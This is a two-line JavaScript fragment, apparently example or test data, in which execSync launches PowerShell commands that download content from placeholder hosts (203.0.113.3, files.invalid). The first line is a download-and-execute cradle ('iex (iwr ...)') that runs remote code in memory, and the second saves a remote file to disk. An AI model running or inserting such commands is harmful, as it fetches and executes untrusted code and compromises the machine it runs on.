execSync("powershell -c \"iex (iwr http://203.0.113.3/x)\"");
execSync("powershell Invoke-WebRequest http://files.invalid/x -OutFile x");
